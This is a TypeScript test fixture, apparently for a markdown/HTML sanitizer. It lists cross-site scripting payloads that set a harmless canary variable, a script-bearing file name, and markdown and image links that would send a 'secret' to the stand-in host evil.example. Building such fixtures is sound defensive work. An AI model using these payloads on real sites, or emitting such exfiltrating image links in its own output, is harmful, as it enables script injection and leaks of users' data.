/** What people and programs have written to have a script run where it is read; each sets `__pwn`. */
export const corpus = [
  "<script>__pwn = 1</script>",
  "<img src=x onerror='__pwn = 2'>",
  "<svg onload=__pwn=3><svg/onload=__pwn=3>",
  "<iframe srcdoc='<script>parent.__pwn = 4</script>'></iframe>",
  "<details open ontoggle=__pwn=5><summary>x</summary></details>",
  "<style>@import 'javascript:__pwn=6'</style><link rel=stylesheet href=javascript:__pwn=6>",
  "<math><mtext><table><mglyph><style><img src=x onerror=__pwn=7></style></mglyph></table></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=__pwn=8>'></noscript>",
  "<template><script>__pwn=9</script></template><base href=javascript:__pwn=9//>",
  "[link](javascript:__pwn=10) [spaced](java\tscript:__pwn=10) [coded](&#106;avascript:__pwn=10)",
  "[data](data:text/html,<script>opener.__pwn=11</script>) <javascript:__pwn=11>",
  '![alt](x" onerror="__pwn=12) ![a](javascript:__pwn=12 \'title" onload="__pwn=12\')',
  "`<img src=x onerror=__pwn=13>` **<b onmouseover=__pwn=13>** _</textarea><script>__pwn=13</script>_",
  "{{constructor.constructor('__pwn=14')()}} ${__pwn=14} #{__pwn=14} <%= __pwn=14 %>",
  "\"><script>__pwn=15</script> ' onfocus='__pwn=15' autofocus='\u2028__pwn=15//",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>__pwn=16</x:script>\u0000<scr\u0000ipt>__pwn=16</script>",
] as const;

/** A file whose name is a script, too. */
export const fileName = "<img src=x onerror=__pwn=17>.txt";

/** Addresses that would carry away what was said, if anything fetched them. */
export const carriers = [
  "![](https://evil.example/?d=secret)",
  "![a][r]\n\n[r]: https://evil.example/r.png?d=secret",
  "<img src=https://evil.example/?d=secret>",
  "[click here](https://evil.example/?d=secret)",
] as const;

/** What a script has set; undefined: none has run. */
export function readCanary(): unknown {
  return (window as unknown as { __pwn?: unknown }).__pwn;
}
